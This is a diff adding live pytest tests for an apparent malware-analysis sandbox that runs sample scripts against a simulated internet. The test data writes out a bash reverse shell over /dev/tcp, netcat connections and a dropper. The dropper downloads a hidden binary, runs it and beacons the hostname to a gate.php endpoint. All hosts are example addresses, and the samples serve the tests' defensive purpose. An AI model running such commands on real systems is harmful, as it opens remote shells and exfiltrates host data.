@@ -1,0 +1,83 @@
+"""A real guest on the simulated internet: clients of every kind, a dropper to its second stage, several at once."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.live.commandline import Analysis, Malkoha, script
+
+pytestmark = pytest.mark.live
+
+CLIENTS = """cd /tmp
+curl -sS -m 60 http://c2.example.net/a.txt
+curl -sS -m 60 https://secure.example.net/data.json
+wget -q -T 60 -O - https://www.example.org/b.txt
+busybox wget -q -T 60 -O - http://bb.example.org/c.txt
+busybox wget -q -T 60 -O - https://bb.example.org/c.txt
+python3 -c 'import urllib.request; print(urllib.request.urlopen("https://py.example.org/x.json", timeout=60).status)'
+printf 'hello there\\n' | nc -w 10 203.0.113.5 4444
+printf 'over udp' | nc -u -w 1 203.0.113.5 9999
+curl -sS -m 60 'http://[2001:db8::7]/d.txt'
+bash -c 'bash -i >& /dev/tcp/203.0.113.66/9001 0>&1'
+"""
+
+DROPPER = """cd /tmp
+curl -s -o .update http://198.51.100.7/bins/agent.x86_64
+chmod +x .update
+./.update
+for i in 1 2 3; do curl -s -d "host=$(uname -n)&n=$i" http://198.51.100.7/gate.php; sleep 1; done
+"""
+
+
+def sessions(analysis: Analysis) -> list[dict[str, Any]]:
+    return [json.loads(line) for line in analysis.store.sessions.read_text().splitlines()]
+
+
+@pytest.fixture(scope="module")
+def clients(shared: Malkoha, tmp_path_factory: pytest.TempPathFactory) -> Analysis:
+    return shared.analyze(script(tmp_path_factory.mktemp("clients"), CLIENTS), "--timeout", "250")
+
+
+def test_clients_fetch_over_http_and_https(clients: Analysis) -> None:
+    said = clients.stdout.decode()
+    assert said.count("ok\n") == 5
+    assert '"status":"ok"' in said
+    assert "200\n" in said
+    asked = [(s["tls"] is not None, step["host"]) for s in sessions(clients) for step in s["steps"] if "host" in step]
+    assert {(True, "secure.example.net"), (True, "www.example.org"), (True, "py.example.org")} <= set(asked)
+    assert {(False, "c2.example.net"), (False, "bb.example.org"), (True, "bb.example.org")} <= set(asked)
+    assert (False, "[2001:db8::7]") in asked
+
+
+def test_other_conversations_are_kept(clients: Analysis) -> None:
+    kept = {(s["transport"], s["dst"], s["dport"]): s for s in sessions(clients)}
+    assert kept["tcp", "203.0.113.5", 4444]["preview_sent"] == "hello there\n"
+    assert kept["udp", "203.0.113.5", 9999]["preview_sent"] == "over udp"
+    shell = kept["tcp", "203.0.113.66", 9001]
+    assert next(step["command"] for step in shell["steps"] if "command" in step) == "id\n"
+    assert "uid=0(root)" in shell["preview_sent"]
+
+
+def test_without_a_network_there_is_no_card(malkoha: Malkoha, tmp_path: Path) -> None:
+    sample = script(tmp_path, "ls /sys/class/net\n")
+    assert malkoha.analyze(sample, "--network", "none").stdout == b"lo\n"
+
+
+def test_dropped_packets_get_no_answer(malkoha: Malkoha, tmp_path: Path) -> None:
+    sample = script(tmp_path, "curl -sS -m 3 http://198.51.100.7/ || echo failed $?\n")
+    analysis = malkoha.analyze(sample, "--network", "drop")
+    assert analysis.stdout == b"failed 28\n"
+    frames = analysis.store.pcap.read_bytes()
+    assert b"\xc6\x33\x64\x07" in frames
+
+
+def test_a_dropper_runs_to_its_second_stage(malkoha: Malkoha, tmp_path: Path) -> None:
+    analysis = malkoha.analyze(script(tmp_path, DROPPER))
+    assert b"second stage\n" in analysis.stdout
+    posts = [step for s in sessions(analysis) for step in s["steps"] if step.get("method") == "POST"]
+    assert len(posts) == 3
+    assert [name["exit_code"] for name in analysis.named(".update")] == [0]
